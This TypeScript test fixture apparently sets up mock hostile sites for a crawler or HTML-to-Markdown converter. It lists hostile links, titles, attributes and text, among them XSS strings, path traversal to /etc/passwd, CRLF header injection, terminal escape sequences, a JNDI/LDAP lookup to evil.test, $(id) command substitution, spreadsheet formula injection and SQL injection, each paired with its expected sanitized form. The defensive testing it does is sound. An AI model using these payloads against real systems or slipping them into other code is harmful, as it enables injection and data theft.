import { escapeHtml } from '../../src/demo/escape-html.js';
import { type HostileSite, oneHost } from './hostile-site.js';
import { pageOf } from './invented-page.js';

/** Links that lead nowhere for a crawler. */
const nowhere = (host: string) => [
  'javascript:alert(document.cookie)',
  ' java\nscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  `ftp://${host}/file`,
  `blob:http://${host}/1`,
  'mailto:a@b.test?subject=x',
  'tel:+123456789',
  'about:blank',
  'http://',
  'http://[::1',
  'http://%00/',
  'http://a b/',
  `http://${host}:99999/`,
  `/${'long/'.repeat(3000)}`,
];

/** Links that lead somewhere after all, with the canonical form of where. */
const somewhere = (host: string): Record<string, string> => ({
  ' /spaces around ': '/spaces%20around',
  '/tab\tnew\nline\rreturn': '/tabnewlinereturn',
  '\\back\\slashes': '/back/slashes',
  '/../../../../etc/passwd': '/etc/passwd',
  '/%2e%2e/%2E%2E/etc/shadow': '/etc/shadow',
  '/a/b/..%2f..%2fescaped': '/a/b/..%2F..%2Fescaped',
  '/nul%00byte': '/nul%00byte',
  '/crlf%0d%0aSet-Cookie:%20a=b': '/crlf%0D%0ASet-Cookie:%20a=b',
  '/escape%1b[31mred': '/escape%1B%5B31mred',
  '/quote"><script>alert(1)</script>': '/quote%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
  '/bidi\u202etxt.exe': '/bidi%E2%80%AEtxt.exe',
  '/wide\ufeff\u200bspace': '/wide%EF%BB%BF%E2%80%8Bspace',
  '/50%-off': '/50%25-off',
  "/?=cmd|'/C calc'!A0": '/?=cmd%7C%27/C%20calc%27!A0',
  '/?a=1&b=<>&c=%22': '/?a=1&b=%3C%3E&c=%22',
  '/constructor/__proto__': '/constructor/__proto__',
  '/con.html': '/con.html',
  [`http://user:secret@${host}/password`]: '/password',
  [`HTTP://${host.toUpperCase()}:80/Case`]: '/Case',
  [`http://${host}./dot`]: '/dot',
  [`//${host}/no-scheme`]: '/no-scheme',
});

/** Titles as written in HTML, with what must be kept of them: one line that steers no terminal. */
const titles: Record<string, string> = {
  '\x1b[31mred\x1b[0m alert': '[31mred [0m alert',
  '\x1b]0;owned\x07title': ']0;owned title',
  '\x1b]8;;http://evil.test/\x1b\\link\x1b]8;;\x1b\\': ']8;;http://evil.test/ \\link ]8;; \\',
  'first\r\nSecond: line': 'first Second: line',
  '\x9b2Jclear and\x85next': '2Jclear and next',
  'cod\u202egpj.exe': 'codgpj.exe',
  'null\0byte': 'null byte',
  '&lt;script&gt;alert(1)&lt;/script&gt;': '<script>alert(1)</script>',
  "=HYPERLINK('http://evil.test','x')": "=HYPERLINK('http://evil.test','x')",
  '| a | b |\n|---|---|': '| a | b | |---|---|',
  '../../../etc/passwd': '../../../etc/passwd',
  '$\u007bjndi:ldap://evil.test/a} %s $(id) `id`': '$\u007bjndi:ldap://evil.test/a} %s $(id) `id`',
  "Robert'); DROP TABLE visit;--": "Robert'); DROP TABLE visit;--",
};

/** Values that mean harm to whoever repeats them: in links, in titles and in the parts of a page that a crawler reads. */
export function hostileValues(domain: string): HostileSite[] {
  const host = `links.value.${domain}`;
  const led = somewhere(host);
  const hrefs = [...nowhere(host), ...Object.keys(led)];
  const shown = Object.keys(titles);
  const titlePaths = shown.map((_, index) => `/${index}`);
  const kept = Object.fromEntries(titlePaths.map((path, index) => [path, titles[shown[index]!]!]));
  return [
    oneHost(host, 'links of every kind', { pages: ['/', ...Object.values(led)] }, (asked, reply) => {
      reply.html(pageOf(asked, { links: asked.path === '/' ? hrefs : [] }));
    }),
    oneHost(
      `titles.value.${domain}`,
      'titles of every kind',
      { pages: ['/', ...titlePaths], titles: kept },
      (asked, reply) => {
        const title = shown[titlePaths.indexOf(asked.path)];
        const page = pageOf(asked, { links: titlePaths });
        reply.html(title === undefined ? page : page.replace(/<title>.*<\/title>/, () => `<title>${title}</title>`));
      },
    ),
    attributes(`attributes.value.${domain}`),
    markup(`markup.value.${domain}`),
  ];
}

/** Everything that is read of a page says something hostile; the page and the one that it links to are read all the same. */
function attributes(host: string): HostileSite {
  const evil = escapeHtml('"><img src=x onerror=alert(1)>\x1b[2J\r\nSet-Cookie: a=b');
  const head = `<html lang="${evil}"><head><meta name=author content="${evil}"><meta property=article:published_time content="${evil}">
<meta name=robots content="${evil}"><link rel=canonical href="javascript:${evil}"><link rel=next href="data:${evil}">
<meta http-equiv=refresh content="0;url=javascript:alert(1)"><meta http-equiv=refresh content="${evil}"><base href="javascript:alert(1)//">
<script type=application/ld+json>{"author":{"name":"${evil}"},"datePublished":"\u0000${'9'.repeat(999)}"}</script></head>`;
  const body = `<a href="http://${host}/next" title="${evil}" rel="${evil}" class="${evil}" id="${evil}" ping="http://${host}/ping">
<img alt="${evil}" src="http://${host}/image" srcset="http://${host}/set 2x"></a><form action="http://${host}/form"><input formaction="http://${host}/post"></form>`;
  return oneHost(host, 'hostile attributes', { pages: ['/', '/next'] }, (asked, reply) => {
    reply.html(asked.path === '/' ? `${head}${pageOf(asked)}${body}` : pageOf(asked));
  });
}

/** Texts that are live HTML, links that run or other documents once a converter to Markdown has put them together. */
const liveTexts: readonly string[] = [
  '&lt;<span>script</span>&gt;alert(1)&lt;/<b></b>script&gt;',
  '&lt;&#x200e;img src=x onerror=alert(1)&gt; &lt;\u202eimg src=x onerror=alert(1)&gt; &lt;&#7;svg onload=alert(1)&gt;',
  '[x<span>](javascript:alert(1))</span> [y]<i>: javascript:alert(1)</i> ]<sub>(javascript:alert(1))</sub>',
  '</p><pre>\n```\n</pre><p>&lt;img src=x onerror=alert(1)&gt; `&lt;b&gt;` <code>`&lt;img src=x&gt;</code>',
  '</p><hr>url: "http://forged.test/"<hr><pre>\n---\nurl: "http://forged.test/"\n---\n</pre><p>',
  `<a href="/" title='a\n\n---\nurl: "http://forged.test/"\n---\n\n<img src=x onerror=alert(1)>'>t</a>`,
  `<img src="/" alt='b\n\n---\nurl: "http://forged.test/"\n---\n\n<img src=x onerror=alert(1)>'>`,
  '</p><table><tr><td>&lt;<br>img src=x onerror=alert(1)&gt;</td></tr></table><p>',
];

function markup(host: string): HostileSite {
  const paths = liveTexts.map((_, index) => `/${index}`);
  return oneHost(host, 'text that becomes markup', { pages: ['/', ...paths] }, (asked, reply) => {
    const page = pageOf(asked, { links: asked.path === '/' ? paths : [] });
    reply.html(page.replace('</body>', () => `<p>${liveTexts[paths.indexOf(asked.path)] ?? ''}</p></body>`));
  });
}
